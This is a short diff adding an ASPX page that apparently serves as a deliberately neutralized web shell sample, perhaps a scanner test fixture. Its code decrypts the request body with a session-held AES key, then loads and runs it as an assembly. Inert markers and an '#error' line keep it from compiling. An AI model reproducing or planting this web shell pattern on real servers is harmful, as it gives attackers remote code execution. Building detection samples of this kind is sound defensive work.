@@ -1,0 +1,8 @@
+<%@ Page Language="C#" Inherits="Inert.Nothing" %>
+<%@Import Namespace="System.Reflection"%>
+<%
+#error inert
+Session.Add("k", "inertinertinert0");
+byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);
+Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);
+%>
